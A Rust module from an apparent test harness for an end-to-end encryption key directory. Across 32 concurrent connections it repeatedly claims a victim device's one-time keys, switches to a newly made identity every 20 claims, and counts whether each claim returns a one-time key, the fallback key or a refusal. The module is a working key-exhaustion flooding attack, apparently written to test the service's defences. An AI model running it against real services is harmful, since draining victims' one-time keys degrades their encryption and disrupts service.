use std::{net::SocketAddr, time::Duration};

use olmcast::{
    primitives::DeviceId,
    protocol::directory::{ClaimedKey, KeysClaimed},
};
use tokio::{task::JoinSet, time::sleep};

use super::{SOURCE, Tally};
use crate::harness::{
    device::Device,
    directory::{Answer, Directory, Signed},
};

/// Connections at a time.
const CONNECTIONS: usize = 32;
/// Claims of one identity, before it makes up another one.
const CLAIMS: usize = 20;

/// Claims one device's keys, with new identities again and again.
pub(super) async fn attack(service: SocketAddr, victim: DeviceId, tally: &Tally) {
    let mut claiming = JoinSet::new();
    for _ in 0..CONNECTIONS {
        let tally = tally.clone();
        claiming.spawn(async move {
            loop {
                if let Err(error) = claim(service, victim, &tally).await {
                    tracing::debug!("{error:#}");
                    tally.count("connections refused or ended");
                    sleep(Duration::from_millis(100)).await;
                }
            }
        });
    }
    while claiming.join_next().await.is_some() {}
}

async fn claim(service: SocketAddr, victim: DeviceId, tally: &Tally) -> anyhow::Result<()> {
    let mut directory = Directory::open(SOURCE.into(), service).await?;
    loop {
        let device = Device::from(SOURCE);
        for _ in 0..CLAIMS {
            match directory.claim(Signed::claim(&device, service, victim)?).await? {
                Answer::Done(KeysClaimed { key: ClaimedKey::OneTimeKey(_), .. }) => {
                    tally.count("claims answered with a one-time key");
                }
                Answer::Done(_) => tally.count("claims answered with the fallback key"),
                Answer::Refused(code) => tally.count(format!("claims: {code:?}")),
            }
        }
    }
}
